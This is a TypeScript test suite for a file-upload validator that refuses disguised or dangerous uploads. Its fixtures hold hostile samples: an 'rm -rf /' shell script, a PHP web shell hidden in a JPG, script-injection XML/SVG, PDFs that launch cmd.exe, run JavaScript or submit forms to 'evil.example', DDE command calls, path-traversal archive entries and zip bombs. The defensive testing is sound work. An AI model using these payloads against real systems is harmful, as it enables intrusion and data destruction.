/** Files that are what they say pass; every known way to be something else is refused with its own words. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { documentFileTypes, everyFileType, type FileType, fileTypes } from '@quayside/contract/file-values';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkFile } from './file-check.ts';
import { jpgBytes, pdfBytes, pngBytes, sampleFiles, xlsxBytes, xlsxParts, zipBytes } from './files.factory.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'quayside-check-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function check(name: string, content: Buffer | string, wanted: readonly FileType[] = documentFileTypes) {
  const path = join(folder, 'file');
  await writeFile(path, content);
  return checkFile(path, name, wanted);
}

const html = '<!doctype html><html><body><script>alert(1)</script></body></html>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const zip = zipBytes([{ name: 'payload.exe', content: 'MZ' }]);
const program = Buffer.concat([Buffer.from('MZ\u0090\u0000\u0003\u0000\u0000\u0000', 'latin1'), Buffer.alloc(500)]);
const elf = Buffer.concat([Buffer.from('\u007fELF\u0002\u0001\u0001', 'latin1'), Buffer.alloc(500)]);
const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

describe('[ORD-13] a file that is what it says', () => {
  it.each(everyFileType)('passes as %s', async (type) => {
    for (const ending of fileTypes[type].endings)
      for (const name of [`file.${ending}`, `FILE.${ending.toUpperCase()}`])
        expect(await check(name, sampleFiles[type], [type])).toEqual({ type });
  });

  it.each([
    ['a CSV of a German maker', 'OTTO;BMW;MZ\n1;2;3\n'],
    ['a CSV in Windows-1252', Buffer.from('Gr\u00f6\u00dfe;Preis\n12;3,50 \u0080\n', 'latin1')],
    ['a CSV in UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('gtin;größe\n', 'utf16le')])],
    ['a CSV with a mark at its start', '\ufeffgtin,preis\n1,2\n'],
    ['a CSV that is larger than a piece', `gtin;name\n${'4006381333931;Crème — 日本\n'.repeat(9_000)}`],
  ])('%s passes', async (_, content) => {
    expect(await check('list.csv', content)).toEqual({ type: 'csv' });
  });

  it('passes when a camera appended data of its own to the picture', async () => {
    expect(await check('photo.jpg', jpgBytes({ tail: 'SEFH\u0003 vendor data' }))).toEqual({ type: 'jpg' });
  });
});

describe('[ORD-13] a file in disguise', () => {
  it.each([
    ['nothing at all', 'empty.pdf', '', 'file_empty'],
    ['no ending', 'invoice', sampleFiles.pdf, 'file_type_not_allowed'],
    ['an ending nobody asked for', 'song.mp3', 'ID3', 'file_type_not_allowed'],
    ['a picture called PDF', 'invoice.pdf', sampleFiles.png, 'file_type_mismatch'],
    ['a PDF called picture', 'photo.jpg', sampleFiles.pdf, 'file_type_mismatch'],
    ['rows called XML', 'invoice.xml', sampleFiles.csv, 'file_type_mismatch'],
    ['XML called CSV', 'list.csv', sampleFiles.xml, 'file_type_mismatch'],
    ['noise called CSV', 'list.csv', Buffer.from([1, 2, 3, 4, 200, 201, 0, 9]), 'file_type_mismatch'],
    [
      'a Word document called XLSX',
      'list.xlsx',
      zipBytes([
        { name: '[Content_Types].xml', content: 'x' },
        { name: 'word/document.xml', content: 'x' },
      ]),
      'file_type_not_allowed',
    ],
    ['a program of Windows', 'invoice.pdf', program, 'file_holds_program'],
    ['a program of Linux', 'photo.png', elf, 'file_holds_program'],
    ['a shell script', 'list.csv', '#!/bin/sh\nrm -rf /\n', 'file_holds_program'],
    ['a page called CSV', 'list.csv', html, 'file_holds_program'],
    ['a page called PDF', 'invoice.pdf', html, 'file_holds_program'],
    ['an SVG called PNG', 'logo.png', svg, 'file_holds_program'],
    ['an SVG called XML', 'logo.xml', `<?xml version="1.0"?>\n${svg}`, 'file_holds_program'],
    [
      'an SVG in UTF-16',
      'logo.xml',
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg, 'utf16le')]),
      'file_holds_program',
    ],
    ['a script far into a CSV', 'list.csv', `${'a;b\n'.repeat(40_000)}<ScRiPt>x</script>`, 'file_holds_program'],
    ['the test file of virus scanners', 'list.csv', eicar, 'file_holds_program'],
  ])('%s is refused', async (_, name, content, refused) => {
    expect(await check(name, content)).toEqual({ refused });
  });

  it('is refused when it is a good file of a type this call does not take', async () => {
    expect(await check('list.csv', sampleFiles.csv, ['pdf'])).toEqual({ refused: 'file_type_not_allowed' });
  });
});

describe('[ORD-13] a PDF', () => {
  const linked = (uri: string) => pdfBytes({ extra: `/A << /S /URI /URI (${uri}) >>` });
  const packed = (type: string, content: string) => {
    const stream = deflateSync(Buffer.from(content, 'latin1'));
    const head = `9 0 obj\n<< /Type /${type} /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>\nstream\r\n`;
    return pdfBytes({ tail: `${head}${stream.toString('latin1')}\nendstream\nendobj\n%%EOF\n` });
  };

  it.each([
    'https://shop.example/launch',
    'https://shop.example/docs/javascript',
    'https://shop.example/launch/2026?by=/javascript#/launch',
    'https://shop.example/a\\(b\\)/launch',
  ])('with a link to %s passes', async (uri) => {
    expect(await check('a.pdf', linked(uri))).toEqual({ type: 'pdf' });
  });

  it.each([
    ['in the object behind a link', linked('https://shop.example/launch)>> /OpenAction << /S /Launch /F (cmd.exe')],
    ['with a piece border in its name', pdfBytes({ extra: `${' '.repeat(65_460)}/OpenAction << /S /JavaScript >>` })],
    ['in a packed object stream', packed('ObjStm', '9 0 << /S /JavaScript /JS (app.alert(1)) >>')],
    ['spelled in codes in a packed object stream', packed('ObjStm', '9 0 << /S /J#61vaScript /JS (x) >>')],
    [
      'far into a packed object stream',
      packed('ObjStm', `9 0 ${'<< /Type /Annot >> '.repeat(60_000)}<< /S /Launch >>`),
    ],
  ])('that starts a program %s is refused', async (_, content) => {
    expect(await check('a.pdf', content)).toEqual({ refused: 'file_holds_program' });
  });

  it('with a link in a packed object stream, or the word on a packed page, passes', async () => {
    expect(await check('a.pdf', packed('ObjStm', '9 0 << /S /URI /URI (https://shop.example/launch) >>'))).toEqual({
      type: 'pdf',
    });
    expect(await check('a.pdf', packed('XObject', 'BT (Our /JavaScript course) Tj ET'))).toEqual({ type: 'pdf' });
  });

  const javascript = Buffer.from('9 0 << /S /JavaScript /JS (app.alert(1)) >>');
  const stream = (dictionary: string, content: Buffer | string, before = '9 0 obj\n') =>
    pdfBytes({
      tail: `${before}<< ${dictionary} >>\nstream\r\n${content.toString('latin1')}\nendstream\nendobj\n%%EOF\n`,
    });
  const objects = '/Type /ObjStm /N 1 /First 4';
  const hex = (content: Buffer) => Buffer.from(`${content.toString('hex')}>`);
  it.each([
    ['behind ASCIIHex', `${objects} /Filter /ASCIIHexDecode`, hex(javascript)],
    ['behind its short name', `${objects} /Filter /AHx`, hex(javascript)],
    ['behind ASCIIHex and Flate', `${objects} /Filter [/ASCIIHexDecode/FlateDecode]`, hex(deflateSync(javascript))],
    ['behind Flate twice', `${objects} /Filter [/FlateDecode /FlateDecode]`, deflateSync(deflateSync(javascript))],
    ['behind ASCII85', `${objects} /Filter /ASCII85Decode`, '3B/$D<>'],
    ['behind LZW', `${objects} /Filter /LZWDecode`, Buffer.from([0x80, 0x0b, 0x60, 0x50])],
    [
      'behind RunLength',
      `${objects} /Filter /RunLengthDecode`,
      Buffer.from([...javascript].flatMap((one) => [0, one])),
    ],
    ['behind a filter named elsewhere', `${objects} /Filter 7 0 R`, hex(javascript)],
    ['behind a predictor', `${objects} /Filter /FlateDecode /DecodeParms << /Predictor 12 >>`, deflateSync(javascript)],
    ['behind two filters to choose from', `${objects} /Filter /AHx /Filter /FlateDecode`, hex(javascript)],
    [
      'behind a table that is elsewhere',
      '/Type /ObjStm /N 5 0 R /First 4 /Filter /FlateDecode',
      deflateSync(javascript),
    ],
  ])('with objects packed %s is refused: nobody honest packs them so', async (_, dictionary, content) => {
    expect(await check('a.pdf', stream(dictionary, content))).toEqual({ refused: 'file_cannot_be_checked' });
  });

  const flate = '/Filter /FlateDecode';
  const wrongSum = deflateSync(javascript);
  wrongSum.writeUInt32BE(7, wrongSum.length - 4);
  it.each([
    ['of no type', stream(`/N 1 /First 4 ${flate}`, deflateSync(javascript))],
    ['of a type in codes', stream(`/Type /Obj#53tm /N 1 /First 4 ${flate}`, deflateSync(javascript))],
    ['far behind its type', stream(`${objects} /Pad (${' '.repeat(70_000)}) ${flate}`, deflateSync(javascript))],
    ['behind a false end in a string', stream(`${objects} /X (endobj 8 0 obj <<) ${flate}`, deflateSync(javascript))],
    ['behind a false start in a string', stream(`${objects} /X (>>\nstream\n) ${flate}`, deflateSync(javascript))],
    ['whose own check sum is wrong', stream(`${objects} ${flate}`, wrongSum)],
    ['inside of another stream', stream('/Length 900', stream(`${objects} ${flate}`, deflateSync(javascript)))],
    ['without a line between number and word', stream(`${objects} ${flate}`, deflateSync(javascript), '9 %\n0 obj')],
    ['in a list', stream(`/Type /ObjStm /N 1 /First 4 ${flate}`, deflateSync('9 0 [<< /S /Rendition /JS (x) >>]'))],
  ])('with code in an object stream %s is refused', async (_, content) => {
    expect(await check('a.pdf', content)).toEqual({ refused: 'file_holds_program' });
  });

  it.each([
    ['a form that brings code of its own', '/AcroForm << /XFA [(template) 7 0 R] >>'],
    ['a scene with code of its own', '/Annots [<< /Subtype /3D /3DD << /OnInstantiate 9 0 R >> >>]'],
    ['data read in when it opens', '/OpenAction << /S /ImportData /F (data.fdf) >>'],
    ['a form sent away when it opens', '/OpenAction << /S /SubmitForm /F (https://evil.example) >>'],
  ])('with %s is refused', async (_, extra) => {
    expect(await check('a.pdf', pdfBytes({ extra }))).toEqual({ refused: 'file_holds_program' });
  });

  it.each([
    ['in its trailer', pdfBytes({ tail: 'trailer\n<< /Size 4 /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF\n' })],
    ['spelled in codes', pdfBytes({ tail: 'trailer\n<</Root 1 0 R/E#6ecrypt<</Filter/Standard>>>>\n%%EOF\n' })],
    ['in its table', stream('/Type /XRef /Root 1 0 R /Encrypt 5 0 R /W [1 2 1]', '')],
  ])('that is locked %s is refused', async (_, content) => {
    expect(await check('a.pdf', content)).toEqual({ refused: 'file_is_locked' });
  });

  it('that writes of locks, codes and attachments passes', async () => {
    const title = '/Title (How to /Encrypt, /EF and /XFA) /Author <2f4a53>';
    expect(await check('a.pdf', pdfBytes({ extra: title }))).toEqual({ type: 'pdf' });
  });

  it('with pictures packed in any way, and object streams not packed at all, passes', async () => {
    const pictures = ['/DCTDecode', '[/ASCII85Decode /FlateDecode]', '/LZWDecode', '[/FlateDecode /DCTDecode]'];
    for (const filter of pictures)
      expect(await check('a.pdf', stream(`/Type /XObject /Filter ${filter}`, 'x'))).toEqual({ type: 'pdf' });
    expect(await check('a.pdf', stream(objects, '9 0 << /Type /Page >>'))).toEqual({ type: 'pdf' });
    expect(
      await check('a.pdf', stream(`${objects} /DecodeParms null /Filter [/FlateDecode]`, deflateSync('9 0 [5]'))),
    ).toEqual({
      type: 'pdf',
    });
  });

  it('that repeats the word for a stream without end costs no time', async () => {
    for (const head of ['', '1 0 obj ', '1 0 obj <<'])
      for (const count of [700, 2_800, 100_000]) {
        const content = pdfBytes({
          tail: `${`${head}<< ${objects} ${flate} >>\nstream\n`.repeat(count)}endstream\n%%EOF\n`,
        });
        const begun = process.cpuUsage();
        await check('a.pdf', content);
        const { user, system } = process.cpuUsage(begun);
        expect((user + system) / 1_000).toBeLessThan(2_000);
      }
  });

  it('whose object stream unpacks without end is refused', async () => {
    expect(await check('a.pdf', packed('ObjStm', ' '.repeat(60 * 1_048_576)))).toEqual({
      refused: 'file_unpacks_too_large',
    });
  });
});

describe('[ORD-13] a PDF with a file in it', () => {
  const invoice: Buffer = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:x"/>',
  );
  const specification = '/Type /Filespec /F (factur-x.xml) /UF <FEFF0066002E0078006D006C>';
  const attached = ({ name = specification, table = '<< /F 8 0 R /UF 8 0 R >>', type = '', content = invoice } = {}) =>
    pdfBytes({
      extra: '/Names << /EmbeddedFiles << /Names [(factur-x.xml) 7 0 R] >> >> /AF [7 0 R]',
      tail: [
        `7 0 obj\n<< ${name} /AFRelationship /Alternative /EF ${table} >>\nendobj`,
        `8 0 obj\n<< ${type} /Filter /FlateDecode >>\nstream\n${deflateSync(content).toString('latin1')}\nendstream\nendobj`,
        '9 0 obj\n<< /F 8 0 R /UF 8 0 R >>\nendobj\n%%EOF\n',
      ].join('\n'),
    });
  const program = Buffer.from('MZ\u0090\u0000\u0003This program cannot be run in DOS mode', 'latin1');

  it('passes when it is the invoice as XML, as Factur-X and ZUGFeRD attach it', async () => {
    expect(await check('a.pdf', attached())).toEqual({ type: 'pdf' });
    expect(await check('a.pdf', attached({ type: '/Type /EmbeddedFile /Subtype /text#2Fxml' }))).toEqual({
      type: 'pdf',
    });
    expect(await check('a.pdf', attached({ table: '9 0 R' }))).toEqual({ type: 'pdf' });
  });

  it.each([
    ['a program', attached({ name: '/F (setup.exe)', content: program })],
    ['a program that is called XML', attached({ content: program })],
    ['a program of a known type nothing refers to', stored('/Type /EmbeddedFile', program)],
    ['XML that is called a program', attached({ name: '/F (invoice.exe)' })],
    ['XML that is called a program in codes', attached({ name: '/F (invoice.e\\170e)' })],
    ['XML with two names', attached({ name: '/F (factur-x.xml) /UF (factur-x.xml.exe)' })],
    ['no name', attached({ name: '/Type /Filespec' })],
    ['content that is not there', attached({ table: '<< /F 88 0 R >>' })],
    ['content that is nowhere', attached({ table: '88 0 R' })],
    ['another PDF', attached({ name: '/F (more.pdf)', content: pdfBytes() })],
  ])('is refused: %s', async (_, content) => {
    expect(await check('a.pdf', content)).toEqual({ refused: 'file_holds_attachment' });
  });

  it('is refused when the XML itself would be', async () => {
    const content = Buffer.from('<x:a xmlns:x="http://www.w3.org/1999/xhtml"/>');
    expect(await check('a.pdf', attached({ content }))).toEqual({ refused: 'file_holds_program' });
  });

  function stored(dictionary: string, content: Buffer): Buffer {
    return pdfBytes({
      tail: `8 0 obj\n<< ${dictionary} >>\nstream\n${content.toString('latin1')}\nendstream\nendobj\n%%EOF\n`,
    });
  }
});

describe('[ORD-13] XML that runs in a browser is refused', () => {
  const xhtml = 'http://www.w3.org/1999/xhtml';
  const inDecimals = [...xhtml].map((one) => `&#${one.charCodeAt(0)};`).join('');
  const inHexadecimals = [...xhtml].map((one) => `&#x${one.charCodeAt(0).toString(16).padStart(60, '0')};`).join('');
  const script = (namespace: string) =>
    `<?xml version="1.0"?><r xmlns:q="${namespace}"><q:script>alert(1)</q:script></r>`;
  it.each([
    ['under another prefix', script(xhtml)],
    ['in capitals', script(xhtml.toUpperCase())],
    ['with one character as a reference', script(xhtml.replace('h', '&#104;'))],
    ['with all characters as references', script(inDecimals)],
    ['with long references', script(inHexadecimals)],
    ['with references longer than anybody writes', script(xhtml.replace('h', `&#x${'0'.repeat(5_000)}68;`))],
    ['across the border of two pieces', `<r>${' '.repeat(65_480)}${script(inHexadecimals).slice(21)}</r>`],
    ['by an entity', `<!DOCTYPE r [<!ENTITY n "${xhtml}">]>${script('&n;').slice(21)}`],
    ['by an entity in CDATA', `<!DOCTYPE r [<!ENTITY n "<![CDATA[${xhtml}]]>">]><r xmlns:q="&n;"/>`],
    ['as SVG', '<r xmlns:s="http://www.w3.org/2000/&#115;vg"><s:g onload="alert(1)"/></r>'],
    ['as a style sheet', '<r xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:template/></r>'],
    ['in an encoding that hides it', '<?xml version="1.0" encoding="UTF-7"?><r>+ADw-script+AD4-</r>'],
    ['in UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(script(inDecimals), 'utf16le')])],
  ])('%s', async (_, content) => {
    expect(await check('a.xml', content)).toEqual({ refused: 'file_holds_program' });
  });

  it.each([
    ['with references in its text', '<?xml version="1.0" encoding="ISO-8859-15"?><a b="&#38;">&#x20AC; &#233;</a>'],
    ['with a script as a word', '<Note>The script is attached &amp; signed</Note>'],
  ])('and XML %s passes', async (_, content) => {
    expect(await check('a.xml', content)).toEqual({ type: 'xml' });
  });
});

describe('[ORD-13] two files in one', () => {
  it.each([
    ['PDF and ZIP', 'a.pdf', Buffer.concat([pdfBytes(), zip])],
    [
      'PDF inside of a ZIP comment',
      'a.pdf',
      Buffer.concat([pdfBytes(), zipBytes([{ name: 'x.exe', content: 'MZ' }], '%%EOF')]),
    ],
    ['PNG and ZIP', 'a.png', Buffer.concat([pngBytes(), zip])],
    ['JPG and ZIP', 'a.jpg', Buffer.concat([jpgBytes(), zip])],
    ['JPG and PDF', 'a.jpg', jpgBytes({ comment: '%PDF-1.4 1 0 obj' })],
    ['PNG with anything behind it', 'a.png', pngBytes({ tail: 'more' })],
  ])('%s is refused', async (_, name, content) => {
    expect(await check(name, content)).toEqual({ refused: 'file_is_mixed' });
  });

  it.each([
    ['PDF and page', 'a.pdf', pdfBytes({ tail: html })],
    [
      'PDF with a script of its own',
      'a.pdf',
      pdfBytes({ extra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
    ],
    [
      'PDF with the script spelled in codes',
      'a.pdf',
      pdfBytes({ extra: '/OpenAction << /S /#4aava#53cript /JS (x) >>' }),
    ],
    ['PDF that starts a program', 'a.pdf', pdfBytes({ extra: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
    ['PNG and script', 'a.png', pngBytes({ tail: '<script>alert(1)</script>' })],
    ['JPG and PHP', 'a.jpg', jpgBytes({ comment: '<?php system($_GET[0]); ?>' })],
  ])('%s is refused', async (_, name, content) => {
    expect(await check(name, content)).toEqual({ refused: 'file_holds_program' });
  });
});

describe('[ORD-13] a file that cannot be read to its end', () => {
  it.each([
    ['a PDF cut short', 'a.pdf', pdfBytes().subarray(0, 150)],
    ['a PNG cut short', 'a.png', pngBytes().subarray(0, 45)],
    ['a JPG cut short', 'a.jpg', jpgBytes({ comment: 'x'.repeat(50) }).subarray(0, 40)],
    ['a sheet cut short', 'a.xlsx', xlsxBytes().subarray(0, 100)],
    ['a sheet with a program before it', 'a.xlsx', Buffer.concat([Buffer.from('PK\u0003\u0004MZ'), xlsxBytes()])],
  ])('%s is refused', async (_, name, content) => {
    expect(await check(name, content)).toEqual({ refused: 'file_damaged' });
  });

  it('is refused when a picture claims more pixels than any camera has', async () => {
    for (const size of [
      { width: 30_000, height: 30_000 },
      { width: 65_535, height: 2_000 },
    ]) {
      expect(await check('a.png', pngBytes(size))).toEqual({ refused: 'picture_too_large' });
      expect(await check('a.jpg', jpgBytes(size))).toEqual({ refused: 'picture_too_large' });
    }
  });
});

describe('[ORD-13] a sheet', () => {
  const zeros = Buffer.alloc(30 * 1_048_576);

  it('that unpacks a hundred times is refused, whatever size it claims', async () => {
    for (const claimed of [zeros.length, 10])
      expect(await check('a.xlsx', xlsxBytes({ name: 'xl/worksheets/sheet1.xml', content: zeros, claimed }))).toEqual({
        refused: 'file_unpacks_too_large',
      });
  });

  it('whose entries are other sizes than it says is refused', async () => {
    expect(await check('a.xlsx', xlsxBytes({ name: 'xl/a.xml', content: 'ten bytes!', claimed: 9 }))).toEqual({
      refused: 'file_damaged',
    });
  });

  it.each([
    ['macros', 'xl/vbaProject.bin'],
    ['a control', 'xl/activeX/activeX1.xml'],
    ['an embedded object', 'xl/embeddings/oleObject1.bin'],
    ['a program', 'xl/media/setup.EXE'],
    ['another archive', 'xl/media/more.zip'],
  ])('with %s is refused', async (_, name) => {
    expect(await check('a.xlsx', xlsxBytes({ name, content: 'x' }))).toEqual({ refused: 'file_holds_program' });
  });

  it.each(['../../etc/passwd', '/etc/passwd', 'xl\\..\\x', 'C:/x'])(
    'with an entry called %s is refused',
    async (name) => {
      expect(await check('a.xlsx', xlsxBytes({ name, content: 'x' }))).toEqual({ refused: 'file_damaged' });
    },
  );

  it.each([
    ['xl/media/image1.png', 'an archive under another name', zip],
    [
      'xl/printerSettings/a.bin',
      'an archive in a part',
      Buffer.concat([Buffer.from('7z\u00bc\u00af\u0027\u001c', 'latin1'), Buffer.alloc(40)]),
    ],
    ['xl/media/image2.png', 'a program under another name', program],
    ['xl/other.bin', 'macros under another name', Buffer.from('d0cf11e0a1b11ae1'.padEnd(1_200, '0'), 'hex')],
  ])('with %s, %s, is refused', async (name, _, content) => {
    expect(await check('a.xlsx', xlsxBytes({ name, content }))).toEqual({ refused: 'file_holds_program' });
  });

  it('with two parts that differ by their capitals is refused', async () => {
    const parts = ['xl/worksheets/sheet1.xml', 'xl/worksheets/Sheet1.XML'].map((name) => ({ name, content: '<a/>' }));
    expect(await check('a.xlsx', xlsxBytes(...parts))).toEqual({ refused: 'file_damaged' });
  });

  it('with encrypted parts, or locked as a whole, is refused', async () => {
    const encrypted = xlsxBytes();
    for (const mark of [Buffer.from('PK\u0001\u0002', 'latin1'), Buffer.from('PK\u0003\u0004', 'latin1')])
      for (let at = encrypted.indexOf(mark); at >= 0; at = encrypted.indexOf(mark, at + 1))
        encrypted.writeUInt16LE(1, at + (mark[2] === 1 ? 8 : 6));
    expect(await check('a.xlsx', encrypted)).toEqual({ refused: 'file_damaged' });
    const container = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1'.padEnd(2_048, '0'), 'hex'),
      Buffer.from('EncryptedPackage', 'utf16le'),
      Buffer.alloc(500),
    ]);
    expect(await check('a.xlsx', container)).toEqual({ refused: 'file_is_locked' });
  });

  it('with a document type far into a part, or in UTF-16, is refused', async () => {
    const type = '<!DOCTYPE x [<!ENTITY a "aaaa">]><sst>&a;</sst>';
    for (const content of [
      `<?xml version="1.0"?><!--${'-'.repeat(70_000)}-->${type}`,
      Buffer.from(`\ufeff${type}`, 'utf16le'),
    ])
      expect(await check('a.xlsx', xlsxBytes({ name: 'xl/sharedStrings.xml', content }))).toEqual({
        refused: 'file_holds_program',
      });
  });

  it('with entities is refused', async () => {
    const content = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><sst>&a;</sst>';
    expect(await check('a.xlsx', xlsxBytes({ name: 'xl/sharedStrings.xml', content }))).toEqual({
      refused: 'file_holds_program',
    });
  });

  const relation = (type: string, more = '') =>
    `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ${more}/></Relationships>`;
  const related = (content: string | Buffer) =>
    check('a.xlsx', xlsxBytes({ name: 'xl/_rels/workbook.xml.rels', content }));

  it.each([
    ['DDE or another workbook', relation('externalLink', 'Target="externalLinks/externalLink1.xml"')],
    ['a link in UTF-16', Buffer.from(`\ufeff${relation('externalLink')}`, 'utf16le')],
    ['a link written in references', relation('extern&#97;lLink')],
    ['a query of a database', relation('connections', 'Target="connections.xml"')],
    ['a picture of another host', relation('image', 'Target="//203.0.113.7/a.png" TargetMode="External"')],
  ])('that takes something in from outside, %s, is refused', async (_, content) => {
    expect(await related(content)).toEqual({ refused: 'file_holds_links' });
  });

  it('with a link that a person presses is taken', async () => {
    const link = relation('hyperlink', 'Target="https://shop.example/" TargetMode="External"');
    expect(await related(link)).toEqual({ type: 'xlsx' });
  });

  it.each([
    '<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>',
    '<table:table-source xlink:href="file://203.0.113.7/share/a.ods"/>',
    '<table:table-cell table:formula="of:=&#68;DE(&quot;cmd&quot;)"/>',
  ])('of OpenDocument with %s is refused', async (element) => {
    const mimetype = { name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet' };
    const sheet = (content: string) => zipBytes([mimetype, { name: 'content.xml', content }]);
    expect(await check('a.ods', sheet('<office:document-content/>'), ['ods'])).toEqual({ type: 'ods' });
    const linked = sheet(`<office:document-content>${element}</office:document-content>`);
    expect(await check('a.ods', linked, ['ods'])).toEqual({ refused: 'file_holds_links' });
  });

  it('with more than 1,000 entries, or one twice, is refused', async () => {
    const many = Array.from({ length: 1_000 }, (_, index) => ({ name: `xl/${index}.xml`, content: '' }));
    expect(await check('a.xlsx', xlsxBytes(...many))).toEqual({ refused: 'file_damaged' });
    expect(await check('a.xlsx', zipBytes([...xlsxParts(), ...xlsxParts()]))).toEqual({ refused: 'file_damaged' });
  });
});
